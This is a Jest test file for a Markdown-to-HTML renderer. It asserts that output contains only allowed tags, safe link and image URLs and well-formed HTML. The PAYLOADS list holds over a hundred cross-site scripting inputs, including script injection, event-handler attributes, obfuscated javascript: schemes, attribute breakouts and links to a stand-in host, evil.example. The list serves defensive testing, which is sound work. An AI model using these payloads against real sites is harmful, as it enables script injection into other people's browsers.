import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';

import { PROSE, PROSE_PROPERTIES, PROSE_TAGS } from './allow-list.rules.js';
import { closedNodes } from './closed-tree.rules.js';
import { fillSlots } from './fill.rules.js';
import { directivesOf, renderMarkdown } from './render.js';
import type { ElementNode, RichNode } from './richtext.types.js';
import { labelOnly } from './slot-content.rules.js';

const ID = '019a2b3c-4d5e-7f80-9123-456789abcdef';

const VOID = ['br', 'hr', 'img', 'input'];
const IN_TREE: Record<string, string> = { referrerpolicy: 'referrerPolicy' };
const TAG = /^<(\/?)([a-z][a-z0-9]*)((?: [a-z-]+(?:="[^"<>]*")?)*)>$/;
const NAMED: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"' };

interface Parsed {
  type: 'element';
  tagName: string;
  properties: Record<string, string>;
  children: unknown[];
}

function decoded(html: string): string {
  return html.replace(/&([a-z]+);|&/g, (_, name: string | undefined) => {
    const character = NAMED[name ?? ''];
    if (character === undefined) throw new Error(`an ampersand that is not ours: ${html}`);
    return character;
  });
}

/** Reads HTML as strictly as can be: one way to write a tag, every tag closed by its own. */
function parseStrictly(html: string): unknown[] {
  const root: Parsed = { type: 'element', tagName: '', properties: {}, children: [] };
  const open = [root];
  for (const token of html.match(/<[^>]*>?|[^<]+/g) ?? []) {
    if (token.startsWith('<')) readTag(token, open);
    else open.at(-1)?.children.push({ type: 'text', value: wordsIn(token) });
  }
  expect(open).toHaveLength(1);
  return root.children;
}

function readTag(token: string, open: Parsed[]): void {
  const [, slash, tagName = '', attributes = ''] = TAG.exec(token) ?? [];
  expect(`${token} has the tag ${tagName}`).not.toMatch(/ tag $/);
  if (slash) {
    expect(open.pop()?.tagName).toBe(tagName);
    return;
  }
  const node: Parsed = { type: 'element', tagName, properties: propertiesIn(attributes), children: [] };
  open.at(-1)?.children.push(node);
  if (!VOID.includes(tagName)) open.push(node);
}

function wordsIn(token: string): string {
  expect(token).not.toContain('>');
  return decoded(token);
}

function propertiesIn(attributes: string): Record<string, string> {
  const found = attributes.matchAll(/ ([a-z-]+)(?:="([^"]*)")?/g);
  return Object.fromEntries([...found].map(([, name = '', value]) => [IN_TREE[name] ?? name, decoded(value ?? '')]));
}

/** The tree in the form that `parseStrictly` gives. */
function asParsed(nodes: readonly RichNode[]): unknown[] {
  return nodes.map((node) => {
    if (node.type === 'text') return node;
    const shown = Object.entries(node.properties).filter(([, value]) => value !== false);
    const properties = shown.map(([name, value]) => [
      name,
      value === true ? '' : Array.isArray(value) ? value.join(' ') : String(value),
    ]);
    return { ...node, properties: Object.fromEntries(properties), children: asParsed(node.children) };
  });
}

function elementsOf(nodes: readonly RichNode[]): ElementNode[] {
  return nodes.flatMap((node) => (node.type === 'text' ? [] : [node, ...elementsOf(node.children)]));
}

function expectAllowed({ tagName, properties }: ElementNode): void {
  expect(PROSE_TAGS).toContain(tagName);
  for (const name of Object.keys(properties)) expect(PROSE_PROPERTIES[tagName] ?? []).toContain(name);
}

const MUST: Record<string, (element: ElementNode) => void> = {
  a: ({ properties: { href, rel }, children }) => {
    expect(href).toMatch(/^(?:https?:\/\/[^/\\@]|mailto:|tel:\+?\d|sms:\+?\d)/);
    expect(/^http/.test(String(href)) ? rel : ['noreferrer']).toContain('noreferrer');
    expect(elementsOf(children).map((inner) => inner.tagName)).not.toContain('a');
  },
  img: ({ properties }) => {
    expect(properties.src).toMatch(/^https:\/\/[^/\\@]/);
    expect(properties.referrerPolicy).toBe('no-referrer');
  },
  input: ({ properties }) => {
    expect(properties).toMatchObject({ type: 'checkbox', disabled: true });
  },
};

/** Everything that must hold for what a reader gets, whatever an editor wrote. */
function expectHarmless(markdown: string): void {
  const rendered = renderMarkdown(markdown);
  const { html, json, text } = fillSlots(rendered, labelOnly);
  for (const element of elementsOf(json.children)) {
    expectAllowed(element);
    MUST[element.tagName]?.(element);
  }
  expect(parseStrictly(html)).toEqual(asParsed(json.children));
  expect(closedNodes(rendered.tree.children, PROSE)).toEqual(rendered.tree.children);
  expect(JSON.parse(JSON.stringify(rendered))).toEqual(rendered);
  expect(rendered.parts).toHaveLength(rendered.slots.length + 1);
  expect(directivesOf(markdown)).toEqual(rendered.slots);
  expect((html + text).isWellFormed()).toBe(true);
}

const PAYLOADS = [
  // Elements that run, load, embed, style or submit.
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  'text <script>alert(1)</script> text',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>',
  '<svg><set attributeName=onload to=alert(1)></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)">',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<style>@import "//evil.example";</style>',
  '<form action=https://evil.example><input name=q><button formaction=javascript:alert(1)>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<textarea></textarea><script>alert(1)</script>',
  '<title></title><script>alert(1)</script>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<!--><script>alert(1)</script>-->',
  '<!DOCTYPE html><script>alert(1)</script>',
  '<?php echo 1 ?><?xml-stylesheet href="javascript:alert(1)"?>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<a href="javascript:alert(1)">x</a>',
  '<div style="background:url(javascript:alert(1))" id=location class=x>x</div>',
  '<signpost-slot data-slot="0"></signpost-slot>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  // Schemes.
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](java\tscript:alert(1))',
  '[a](<java\nscript:alert(1)>)',
  '[a](<java&Tab;script:alert(1)>)',
  '[a](<java&NewLine;script:alert(1)>)',
  '[a](&#106;avascript:alert(1))',
  '[a](&#x6A;&#x61;vascript&colon;alert(1))',
  '[a](javascript&#58;alert(1))',
  '[a](\\javascript:alert(1))',
  '[a](<\u0001javascript:alert(1)>)',
  '[a](< javascript:alert(1)>)',
  '[a](javascript%3Aalert(1))',
  '[a](vbscript:msgbox(1))',
  '[a](data:text/html,<script>alert(1)</script>)',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a](//evil.example)',
  '[a](/\\evil.example)',
  '[a](https:\\\\evil.example)',
  '[a](https:evil.example)',
  '[a](https://good.example@evil.example/)',
  '[a](file:///etc/passwd)',
  '[a](blob:https://x.example/1)',
  '[a](intent://x#Intent;end)',
  '[a](view-source:https://x.example)',
  '[a](tel:*%2306%23)',
  '[a](sms:1?body=a&body=b)',
  '[a](feed:javascript:alert(1))',
  '[a](jar:https://x.example!/)',
  '[a](ｊavascript:alert(1))',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '[a][b]\n\n[b]: javascript:alert(1)',
  '[b]\n\n[b]: JAVASCRIPT:alert(1) "t"',
  '![a](javascript:alert(1))',
  '![a](data:image/svg+xml,<svg/onload=alert(1)>)',
  '![a](http://x.example/pixel.gif)',
  '![a][b]\n\n[b]: data:text/html,x',
  // Out of an attribute.
  '[a](https://x.example "\\" onmouseover=\\"alert(1)")',
  '[a](https://x.example \'" onmouseover="alert(1)\')',
  '[a](https://x.example/"onmouseover="alert(1))',
  '[a](<https://x.example/"><script>alert(1)</script>>)',
  '![" onerror="alert(1)](https://x.example/a.png)',
  '!["><script>alert(1)</script>](https://x.example/a.png)',
  '![</noscript><script>alert(1)</script>](https://x.example/a.png)',
  '![a](https://x.example/a.png "</style><img src=x onerror=alert(1)>")',
  '![`](https://x.example/` onerror=alert(1))',
  '[a](mailto:"><script>alert(1)</script>@x.example)',
  '[a](mailto:a@x.example?subject="><script>alert(1)</script>)',
  '<https://x.example/"onmouseover="alert(1)>',
  'https://x.example/"onmouseover="alert(1)',
  'www.x.example/<script>alert(1)</script>',
  // Out of a Markdown construct.
  '```"><script>alert(1)</script>\nx\n```',
  '`<script>alert(1)</script>`',
  '    <script>alert(1)</script>',
  '| <script>alert(1)</script> | "onload= |\n|---|:-:|\n| <img src=x onerror=alert(1)> | x |',
  '[<script>alert(1)</script>](https://x.example)',
  '[![a](javascript:alert(1))](javascript:alert(2))',
  '[[a](https://x.example)](javascript:alert(1))',
  'a[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
  'a[^x]\n\n[^x]: <script>alert(1)</script>',
  '# <img src=x onerror=alert(1)> {#id .class onload=alert(1)}',
  '- [x] <input onfocus=alert(1) autofocus>',
  // By a directive.
  `:helpline[<script>alert(1)</script>]{#${ID}}`,
  `:article["><img src=x onerror=alert(1)>]{#${ID} onload=alert(1) class=x style=x}`,
  `[:cite[x]{#${ID}}](javascript:alert(1))`,
  `[:cite[x]{#${ID}}](https://x.example)`,
  `:cite[[x](javascript:alert(1))]{#${ID}}`,
  ':emergency[999]{region="GB\\"><script>" service=GENERAL}',
  ':script[alert(1)]{onload=alert(1)}',
  '::iframe{src=javascript:alert(1)}',
  ':::script\nalert(1)\n:::',
  '::helplines{topics="<script>alert(1)</script>"}',
];

describe('what a reader gets', () => {
  it.each(PAYLOADS)('is harmless for %j', expectHarmless);

  it.each(PAYLOADS)('is harmless for %j in a list, a quote and a table', (payload) => {
    const line = payload.replace(/\n/g, ' ');
    expectHarmless(`- ${line}\n  > ${line}\n\n| a |\n|---|\n| ${line} |\n`);
  });

  it('has at least a hundred attacks to stand', () => {
    expect(new Set(PAYLOADS).size).toBeGreaterThanOrEqual(100);
  });

  it('is harmless for any characters', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 300 }), expectHarmless), { numRuns: 150 });
  });

  it('is harmless for any mix of markup', () => {
    const bits = [
      '[',
      ']',
      '(',
      ')',
      '{',
      '}',
      '<',
      '>',
      '!',
      '*',
      '_',
      '~',
      '`',
      '#',
      '|',
      ':',
      '-',
      '+',
      '=',
      '"',
      "'",
      '\\',
      '&',
      ';',
      '^',
      '\n',
      '\t',
      ' ',
      '1',
      'a',
      '\n\n',
      '](',
      '![',
      'https://',
      'javascript:',
      '<a href="',
    ];
    const directives = [`:cite[a]{#${ID}}`, '::signs', '\n::faqs\n', ':emergency[', '{region=GB}', ':::x', '[^1]: '];
    const tokens = fc.constantFrom(
      ...bits,
      ...directives,
      '&#106;',
      '\u0000',
      '\ud800',
      '\u0001',
      'word',
      '| a |\n|-|\n',
    );
    const texts = fc.array(tokens, { maxLength: 60 }).map((chosen) => chosen.join(''));
    fc.assert(fc.property(texts, expectHarmless), { numRuns: 300 });
  });
});
